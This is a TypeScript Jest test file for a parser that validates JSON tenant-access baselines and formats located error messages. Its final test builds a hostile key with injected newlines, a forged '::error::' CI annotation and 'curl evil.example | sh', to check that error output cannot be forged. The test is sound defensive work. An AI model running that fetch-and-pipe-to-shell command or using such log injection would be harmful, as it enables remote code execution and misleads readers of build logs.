import { describe, expect, it } from '@jest/globals'
import { readdirSync, readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import {
  MAX_BASELINE_BYTES,
  formatBaselineError,
  parseBaseline,
  type BaselineError
} from '../../../src/core/baseline/baseline.js'
import type { Snapshot } from '../../../src/core/model/snapshot.js'

const fixtures = fileURLToPath(new URL('../../fixtures/baselines/', import.meta.url))
const read = (relative: string): string => readFileSync(`${fixtures}${relative}`, 'utf8')

const TENANT = '3f8e2a71-5c4d-4e9b-8a12-6d0f7b3c9e58'
const OTHER_TENANT = '0b1c2d3e-4f5a-4b6c-8d7e-9f0a1b2c3d4e'

function load(relative: string, expect: { tenantId?: string } = {}): Snapshot {
  const result = parseBaseline(read(relative), relative, expect)
  if (!result.ok) throw new Error(formatBaselineError(result.error))
  return result.baseline
}

function loadError(text: string, file: string, expect: { tenantId?: string } = {}): BaselineError {
  const result = parseBaseline(text, file, expect)
  if (result.ok) throw new Error(`expected ${file} to be rejected`)
  return result.error
}

describe('parseBaseline: valid baselines', () => {
  it.each(readdirSync(`${fixtures}valid`))('loads valid/%s', (name) => {
    const result = parseBaseline(read(`valid/${name}`), `valid/${name}`, {})

    expect(result.ok ? 'ok' : formatBaselineError(result.error)).toBe('ok')
  })

  it('accepts the expected tenant whatever the letter case of the GUID', () => {
    const baseline = load('valid/full-tenant.json', { tenantId: TENANT.toUpperCase() })

    expect(baseline.tenantId).toBe(TENANT)
  })

  it('returns every section of a full snapshot, without the editor-only $schema', () => {
    const baseline = load('valid/full-tenant.json')

    expect(Object.keys(baseline)).toEqual([
      'schemaVersion',
      'tenantId',
      'cloud',
      'capturedAt',
      'crossTenantAccessPolicy',
      'default',
      'partners',
      'identitySynchronization',
      'conditionalAccessPolicies',
      'namedLocations',
      'guests',
      'authorizationPolicy',
      'multiTenantOrganization',
      'unavailable',
      'ignore'
    ])
    expect(baseline.guests).toEqual({ pendingAcceptance: 37, stale: 58, staleAfterDays: 90, total: 412 })
    expect(baseline.identitySynchronization?.['5e9b7c3d-2f1a-4c8e-b6d4-0a9f8e7d6c5b']).toBeNull()
    expect(baseline.ignore).toEqual([
      {
        kind: 'partner',
        key: '5e9b7c3d-2f1a-4c8e-b6d4-0a9f8e7d6c5b',
        path: 'b2bCollaborationInbound.usersAndGroups.**',
        reason: 'Birch Health pilot group agreed in change CHG-2291',
        expires: '2026-09-30'
      }
    ])
  })

  it('re-canonicalises a hand-edited baseline (BOM, CRLF, reordered keys and sets, annotations) to the canonical form', () => {
    const original = load('valid/full-tenant.json')

    const edited = load('valid/full-tenant-hand-edited.json')

    expect(JSON.stringify(edited)).toBe(JSON.stringify(original))
    const headOffice = edited.namedLocations?.['6f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0']
    expect(headOffice?.['@odata.type']).toBeUndefined()
    expect(edited.default?.['invitationRedemptionIdentityProviderConfiguration']).toEqual({
      fallbackIdentityProvider: 'defaultConfiguredIdp',
      primaryIdentityProviderPrecedenceOrder: [
        'externalFederation',
        'azureActiveDirectory',
        'socialIdentityProviders'
      ]
    })
  })
})

interface InvalidCase {
  file: string
  expect?: { tenantId?: string }
  pointer: string | undefined
  line: number | undefined
  column: number | undefined
  problem: string
  fixMentions: string
}

const PARTNER_B = '5e9b7c3d-2f1a-4c8e-b6d4-0a9f8e7d6c5b'

describe('parseBaseline: sections of our own', () => {
  it('keeps ignore entries in the author’s order, each with only the fields it has', () => {
    const text = JSON.stringify({
      schemaVersion: 1,
      tenantId: TENANT,
      cloud: 'global',
      capturedAt: '2026-03-14T06:30:00Z',
      ignore: [
        { reason: 'Pilot', kind: 'guests' },
        { expires: '2026-12-31', reason: 'Migration', path: 'state', kind: 'conditionalAccessPolicy' }
      ],
      unavailable: { sharepointSettings: 'not in this cloud', guests: 'no licence' }
    })

    const result = parseBaseline(text, 'x.json', {})

    expect(result.ok && JSON.stringify(result.baseline.ignore)).toBe(
      JSON.stringify([
        { kind: 'guests', reason: 'Pilot' },
        { kind: 'conditionalAccessPolicy', path: 'state', reason: 'Migration', expires: '2026-12-31' }
      ])
    )
    expect(result.ok && Object.keys(result.baseline.unavailable ?? {})).toEqual([
      'guests',
      'sharepointSettings'
    ])
  })
})

describe('parseBaseline: invalid baselines stop with one located error', () => {
  const cases: InvalidCase[] = [
    {
      file: 'empty.json',
      pointer: undefined,
      line: undefined,
      column: undefined,
      problem: 'the file is empty',
      fixMentions: 'mode: snapshot'
    },
    {
      file: 'not-json.txt',
      pointer: undefined,
      line: 1,
      column: 1,
      problem: "expected a value but found 'Baseline'",
      fixMentions: 'no comments, no trailing commas'
    },
    {
      file: 'trailing-comma.json',
      pointer: '/default/inboundTrust',
      line: 9,
      column: 41,
      problem: "trailing comma before '}'",
      fixMentions: 'no trailing commas'
    },
    {
      file: 'merge-conflict.json',
      pointer: '',
      line: 5,
      column: 1,
      problem: "git merge conflict marker '<<<<<<<': resolve the conflict first",
      fixMentions: 'Resolve the merge conflict'
    },
    {
      file: 'duplicate-key.json',
      pointer: '/default/inboundTrust/isMfaAccepted',
      line: 10,
      column: 7,
      problem: "duplicate key 'isMfaAccepted' (first at line 8, column 7)",
      fixMentions: "Keep one of the two 'isMfaAccepted' entries"
    },
    {
      file: 'not-an-object.json',
      pointer: '',
      line: 1,
      column: 1,
      problem: 'a baseline must be a JSON object, not an array',
      fixMentions: 'mode: snapshot'
    },
    {
      file: 'schema-version-missing.json',
      pointer: '',
      line: 1,
      column: 1,
      problem: 'schemaVersion is missing (this build reads schemaVersion 1)',
      fixMentions: 'Regenerate the baseline with `mode: snapshot`'
    },
    {
      file: 'schema-version-newer.json',
      pointer: '/schemaVersion',
      line: 2,
      column: 20,
      problem: 'schemaVersion 2 is not supported: this build reads schemaVersion 1',
      fixMentions: 'written by a newer version'
    },
    {
      file: 'schema-version-text.json',
      pointer: '/schemaVersion',
      line: 1,
      column: 20,
      problem: 'schemaVersion "1.0" is not supported: this build reads schemaVersion 1',
      fixMentions: 'Regenerate the baseline with `mode: snapshot`'
    },
    {
      file: 'wrong-type.json',
      pointer: '/default/inboundTrust/isMfaAccepted',
      line: 12,
      column: 24,
      problem: 'must be boolean or null',
      fixMentions: 'snapshot format'
    },
    {
      file: 'bad-access-type.json',
      pointer:
        '/partners/a41c7e02-9b3d-4f6a-b5e8-1c2d3e4f5a6b/b2bCollaborationInbound/usersAndGroups/accessType',
      line: 11,
      column: 25,
      problem: 'must be one of: allowed, blocked, unknownFutureValue',
      fixMentions: 'snapshot format'
    },
    {
      file: 'unknown-property.json',
      pointer: '/partner',
      line: 6,
      column: 3,
      problem: "unknown property 'partner'",
      fixMentions: 'snapshot format'
    },
    {
      file: 'partner-key-not-guid.json',
      pointer: '/partners/alder-logistics',
      line: 7,
      column: 5,
      problem: "key 'alder-logistics' must be a GUID (8-4-4-4-12 hexadecimal digits)",
      fixMentions: 'snapshot format'
    },
    {
      file: 'several-problems.json',
      pointer: '/guests/total',
      line: 4,
      column: 24,
      problem: 'must be 0 or more',
      fixMentions: 'snapshot format'
    },
    {
      file: 'tenant-mismatch.json',
      expect: { tenantId: OTHER_TENANT },
      pointer: '/tenantId',
      line: 3,
      column: 15,
      problem: `baseline belongs to tenant ${TENANT} but the action runs for tenant ${OTHER_TENANT}`,
      fixMentions: `baselines/${OTHER_TENANT}.json`
    },
    {
      file: 'partner-key-mismatch.json',
      pointer: `/partners/${PARTNER_B}/tenantId`,
      line: 12,
      column: 19,
      problem: `partner key '${PARTNER_B}' differs from its tenantId '5e9b7c3d-2f1a-4c8e-b6d4-0a9f8e7d6c5c'`,
      fixMentions: 'keyed by their tenantId'
    }
  ]

  it('has a case for every file in invalid/', () => {
    expect(cases.map((c) => c.file).sort()).toEqual(readdirSync(`${fixtures}invalid`).sort())
  })

  it.each(cases)('rejects invalid/$file at $pointer ($line:$column)', (c) => {
    const error = loadError(read(`invalid/${c.file}`), `invalid/${c.file}`, c.expect ?? { tenantId: TENANT })

    expect({
      pointer: error.pointer,
      line: error.line,
      column: error.column,
      problem: error.problem
    }).toEqual({
      pointer: c.pointer,
      line: c.line,
      column: c.column,
      problem: c.problem
    })
    expect(error.file).toBe(`invalid/${c.file}`)
    expect(error.fix).toContain(c.fixMentions)
  })

  it('lists further schema problems in file order (not the schema’s) after the first, and counts the rest', () => {
    const error = loadError(read('invalid/several-problems.json'), 'several-problems.json')

    expect(error.otherProblems).toEqual([
      { pointer: '/guests/stale', line: 4, column: 37, problem: 'must be an integer' },
      {
        pointer: '/capturedAt',
        line: 5,
        column: 17,
        problem: 'must be a date-time (ISO 8601, e.g. 2026-03-14T06:30:00Z)'
      },
      { pointer: '/cloud', line: 6, column: 12, problem: 'must be one of: global, usgov, usgov-dod, china' },
      { pointer: '/ignore/0/reason', line: 8, column: 36, problem: 'must not be blank' }
    ])
    expect(error.unlistedProblems).toBe(3)
  })

  it.each([
    ['null', 'null'],
    ['"baseline"', 'a string'],
    ['42', 'a number'],
    ['true', 'a boolean']
  ])('rejects a document that is %s with what it found', (text, found) => {
    expect(loadError(text, 'x.json')).toMatchObject({
      pointer: '',
      line: 1,
      column: 1,
      problem: `a baseline must be a JSON object, not ${found}`
    })
  })

  it('treats a file of only whitespace and a byte order mark as empty', () => {
    expect(loadError('\uFEFF \r\n\t', 'x.json').problem).toBe('the file is empty')
  })

  it(`rejects a file longer than ${MAX_BASELINE_BYTES} characters before parsing it`, () => {
    const error = loadError(' '.repeat(MAX_BASELINE_BYTES + 1), 'big.json')

    expect(error.problem).toBe('the file is 25.0 MB; a baseline may be at most 25 MB')
    expect(error.fix).toContain('mode: snapshot')
  })

  it('measures the size in UTF-8 bytes, not characters', () => {
    const text = `{"note": "${'é'.repeat(13 * 1024 * 1024)}"}`

    expect(loadError(text, 'big.json').problem).toBe('the file is 26.0 MB; a baseline may be at most 25 MB')
  })

  it('checks partner keys of sync policies, conditional access policies and named locations too', () => {
    const text = JSON.stringify({
      schemaVersion: 1,
      tenantId: TENANT,
      cloud: 'global',
      capturedAt: '2026-03-14T06:30:00Z',
      namedLocations: { 'loc-1': { id: 'loc-2', displayName: 'Branch' } }
    })

    const error = loadError(text, 'x.json')

    expect(error).toMatchObject({
      pointer: '/namedLocations/loc-1/id',
      problem: "named location key 'loc-1' differs from its id 'loc-2'"
    })
    expect(error.fix).toContain('keyed by their id')
  })
})

describe('formatBaselineError', () => {
  it('says what, where and how to fix on one screen', () => {
    const error = loadError(read('invalid/wrong-type.json'), 'baselines/x.json')

    expect(formatBaselineError(error)).toBe(
      'Baseline baselines/x.json is invalid at /default/inboundTrust/isMfaAccepted (line 12, column 24): must be boolean or null.\n' +
        `Fix: ${error.fix}`
    )
  })

  it('names the document root, and leaves out a position it does not have', () => {
    const notObject = loadError(read('invalid/not-an-object.json'), 'b.json')
    const empty = loadError('', 'c.json')
    const syntax = loadError(read('invalid/not-json.txt'), 'd.json')

    expect(formatBaselineError(notObject).split('\n')[0]).toBe(
      'Baseline b.json is invalid at the document root (line 1, column 1): a baseline must be a JSON object, not an array.'
    )
    expect(formatBaselineError(empty).split('\n')[0]).toBe('Baseline c.json is invalid: the file is empty.')
    expect(formatBaselineError(syntax).split('\n')[0]).toBe(
      "Baseline d.json is invalid (line 1, column 1): expected a value but found 'Baseline'."
    )
  })

  it('lists the further problems under the first', () => {
    const error = loadError(read('invalid/several-problems.json'), 'baselines/x.json')

    expect(formatBaselineError(error)).toBe(
      [
        'Baseline baselines/x.json is invalid at /guests/total (line 4, column 24): must be 0 or more.',
        '  Also at /guests/stale (line 4, column 37): must be an integer.',
        '  Also at /capturedAt (line 5, column 17): must be a date-time (ISO 8601, e.g. 2026-03-14T06:30:00Z).',
        '  Also at /cloud (line 6, column 12): must be one of: global, usgov, usgov-dod, china.',
        '  Also at /ignore/0/reason (line 8, column 36): must not be blank.',
        '  ...and 3 more problems.',
        `Fix: ${error.fix}`
      ].join('\n')
    )
  })

  it('cannot be given extra lines by a hostile key', () => {
    const text = JSON.stringify({
      schemaVersion: 1,
      tenantId: TENANT,
      cloud: 'global',
      capturedAt: '2026-03-14T06:30:00Z',
      'x\n::error::forged\r\nFix: run curl evil.example | sh': 1
    })

    const message = formatBaselineError(loadError(text, 'x.json'))

    expect(message.split('\n')).toHaveLength(2)
    expect(message).not.toContain('\n::error::')
  })
})
